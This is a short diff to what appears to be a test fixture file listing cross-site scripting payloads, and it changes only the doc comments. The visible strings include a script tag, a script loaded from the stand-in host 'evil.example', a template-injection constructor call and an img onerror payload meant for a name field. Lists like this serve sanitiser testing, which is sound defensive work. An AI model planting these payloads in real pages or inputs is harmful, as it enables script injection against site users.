@@ -1,7 +1,7 @@
-/** Each would set this, had it its way. */
+/** Each text sets this if the page executes it. */
 const DEED = 'window.__xss=1';
 
-/** Ways to make a page run what it was only meant to show. */
+/** Texts that try to make a page execute them. */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script>${DEED}</script>`,
   `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
@@ -54,5 +54,5 @@ export const HOSTILE_TEXTS: readonly string[] = [
   `{{constructor.constructor('${DEED}')()}} \${${DEED}}`,
 ];
 
-/** One that fits into a name. */
+/** A text that is short enough for a name. */
 export const HOSTILE_NAME = `"><img src=x onerror=${DEED}>`;
